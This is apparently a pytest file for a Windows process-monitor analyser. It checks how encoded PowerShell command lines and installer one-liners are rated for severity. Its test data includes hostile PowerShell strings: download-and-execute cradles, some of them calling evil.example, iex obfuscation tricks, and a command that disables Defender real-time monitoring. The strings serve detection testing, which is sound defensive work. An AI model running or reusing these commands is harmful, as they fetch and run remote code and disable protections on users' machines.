"""A script that is encoded in a command line is judged by what it says."""

from __future__ import annotations

from base64 import b64encode
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scripts.procmon.contracts.findings import Finding
from scripts.procmon.findings.programs import command_lines, process_tree
from scripts.procmon.findings.programs.encoded_scripts import encoded_script, looks_up
from scripts.procmon.knowledge import knowledge
from scripts.procmon.text.telling import tell
from tests.captures.events import Row, capture

POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
SYSTEM = r"C:\Windows\System32"

LOOKS_UP = [
    "$x=1;" * 40,
    "Get-CimInstance Win32_Process | Select-Object ProcessId,CommandLine | ConvertTo-Json",
    "Get-Service | Where-Object Status -eq Running | Select-Object Name,Status",
    "Get-ChildItem 'C:\\Logs' -Filter *.log | Where-Object { $_.Length -gt 10MB } | Sort-Object Length",
    "[Console]::OutputEncoding = [System.Text.Encoding]::UTF8; Get-Process | ForEach-Object { $_.Name }",
    "if (Test-Path 'C:\\x') { exit 0 } else { exit 1 }",
    "(Get-ItemProperty 'HKLM:\\Software\\X').Version",
]
DOES_MORE = [
    "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
    "iwr http://x -OutFile a.exe; .\\a.exe",
    "& ('ie'+'x') $a",
    "[Reflection.Assembly]::Load($b)",
    "Start-Process calc",
    "Get-Content a.txt | iex",
    "calc.exe",
    "Get-Process;\ncalc",
    "Set-MpPreference -DisableRealtimeMonitoring 1",
    "Get-Process | % { $_.Kill() }",
    "Get-Process | ForEach-Object Kill",
    '"$(calc)"',
    "Get-Process > a.txt",
    "return calc",
    "foreach ($x in calc) { 1 }",
    "if (1) { 2 } else { calc }",
    "Select-Object @{n='x';e={iex 'a'}}",
    # Quotation marks by which the end of a text is hidden.
    "Write-Host \"a$x'\"; iex 'b'",
    "Get-Process # it's\niex x # '",
    "Write-Host \u201ca'\u201d; iex 'b'",
    "`i`e`x 1",
    "sal x iex; x 'a'",
    "-join('a','b') | iex",
    "$env:Path",
]


def encoded(script: str, name: str = "-EncodedCommand") -> str:
    return f"powershell.exe -NoProfile -WindowStyle Hidden {name} {b64encode(script.encode('utf-16-le')).decode()}"


def found(line: str, **parents: Any) -> Finding:
    """The finding on a PowerShell with this command line, below the programs of ``parents`` (nearest first)."""
    people: dict[str, Any] = {"powershell.exe (7)": {"image_path": POWERSHELL, "command_line": line}}
    child = "powershell.exe (7)"
    for pid, (name, image) in enumerate(parents.items(), 100):
        people[child]["parent"] = child = f"{name}.exe ({pid})"
        people[child] = {"image_path": image}
    built = capture(Row("Process Start", "", "Parent PID: 100", who="powershell.exe (7)"), processes=people)
    done = {"process_tree": process_tree.analyse(built, {})}
    (finding,) = command_lines.analyse(built, done).findings
    return finding


@pytest.mark.parametrize("script", LOOKS_UP)
def test_a_script_that_only_looks_things_up_is_low_and_is_shown(script: str) -> None:
    finding = found(encoded(script))
    assert looks_up(script)
    assert (finding.facts["id"], finding.severity) == ("plain-script", "low")
    assert script[:30].strip() in tell(finding.kind, finding.facts)["statement"]


@pytest.mark.parametrize("script", DOES_MORE)
def test_a_script_that_does_anything_else_stays_high_and_is_shown(script: str) -> None:
    finding = found(encoded(script))
    assert not looks_up(script)
    assert (finding.facts["id"], finding.severity) == ("hidden-script", "high")
    assert finding.facts["decoded"]


def test_what_else_the_command_line_asks_for_is_not_excused_by_the_script() -> None:
    line = encoded("Get-Process") + " ; iex (New-Object Net.WebClient).DownloadString('http://x')"
    assert found(line).severity == "high"


@pytest.mark.parametrize("name", ["-e", "-ec", "-en", "/enc", "-Encod", "-encodedcommand"])
def test_any_beginning_of_the_arguments_name_is_read(name: str) -> None:
    assert encoded_script(encoded("Get-Date", name)) == "Get-Date"


@pytest.mark.parametrize(
    "line", ["powershell -enc AAAAAAAAA", "chrome.exe --enc --windowed=1", "x -e abcdefghij", "x -enc é" * 5]
)
def test_what_is_no_text_is_no_script(line: str) -> None:
    assert encoded_script(line) is None


@given(st.text(max_size=200))
def test_no_text_breaks_the_reading(text: str) -> None:
    looks_up(text)
    encoded_script(f"powershell -enc {text}")


def test_a_management_tools_first_steps_are_believed_below_windows_own_host_of_sessions_alone() -> None:
    line = encoded(knowledge("plain_scripts")["first_steps"][0].replace("$split_parts =", "\n$split_parts ="))
    host = rf"{SYSTEM}\winrshost.exe"
    told = found(line, cmd=rf"{SYSTEM}\cmd.exe", winrshost=host)
    assert (told.facts["id"], told.severity) == ("remote-session-script", "low")
    assert found(line, cmd=rf"{SYSTEM}\cmd.exe").severity == "high"
    assert found(line, winrshost=r"C:\Users\a\Downloads\winrshost.exe").severity == "high"
    changed = encoded(knowledge("plain_scripts")["first_steps"][0] + "; calc")
    assert found(changed, winrshost=host).severity == "high"


CHOCOLATEY = (
    'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Set-ExecutionPolicy Bypass -Scope Process -Force; '
    "[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; "
    "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\""
)


@pytest.mark.parametrize(
    "line",
    [
        CHOCOLATEY,
        'powershell -c "irm get.scoop.sh | iex"',
        'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"',
    ],
)
def test_a_published_set_up_script_is_low(line: str) -> None:
    finding = found(line)
    assert (finding.facts["id"], finding.severity) == ("documented-installer", "low")
    assert tell(finding.kind, finding.facts, "ja")["meaning"]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("community.chocolatey.org", "community.chocolatey.org.evil.example"),
        ("https://community", "http://evil.example/?https://community"),
        ("install.ps1", "install.ps1?x=1"),
        (
            "install.ps1'))",
            "install.ps1')); iex (New-Object Net.WebClient).DownloadString('http://evil.example')",
        ),
        ("install.ps1'))", "install.ps1')); iex $x"),
        ("install.ps1'))", "install.ps1')); start evil.exe"),
        ("https://community.chocolatey.org", "https://user@community.chocolatey.org"),
    ],
)
def test_any_other_address_is_not(old: str, new: str) -> None:
    assert old in CHOCOLATEY
    assert found(CHOCOLATEY.replace(old, new)).severity == "medium"


def test_a_published_script_that_is_run_without_a_window_stays_high() -> None:
    assert found(CHOCOLATEY.replace("-NoProfile", "-WindowStyle Hidden")).severity == "high"
